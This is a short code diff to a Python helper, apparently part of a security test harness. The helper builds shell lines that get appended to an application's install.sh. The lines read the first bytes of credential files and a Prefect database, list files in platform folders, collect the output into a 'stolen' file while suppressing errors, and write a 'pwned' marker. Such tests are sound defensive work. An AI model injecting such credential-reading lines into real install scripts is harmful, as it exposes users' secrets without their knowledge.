@@ -48,9 +48,11 @@ def attack_targets(cs_home: Path) -> dict:
 
 def theft_lines(targets: dict) -> str:
     """install.sh's own attack on this platform's real paths (appended to the app's script)."""
-    paths = " ".join(f"'{p}'" for p in [*targets["credential_files"], *targets["platform_paths"]])
+    files = " ".join(f"'{p}'" for p in [*targets["credential_files"], targets["prefect_db"]])
+    folders = " ".join(f"'{p}'" for p in targets["platform_paths"])
     return (
-        f'\n{{ for p in {paths}; do cat "$p" || ls "$p"; done; }} >> "$stolen" 2>/dev/null || true\n'
+        f'\n{{ for p in {files}; do head -c 64 "$p"; done;'
+        f' find {folders} -maxdepth 1 -type f; }} >> "$stolen" 2>/dev/null || true\n'
         f"echo pwned > '{targets['writable_targets'][1]}/pwned-install' 2>/dev/null || true\n"
     )
 
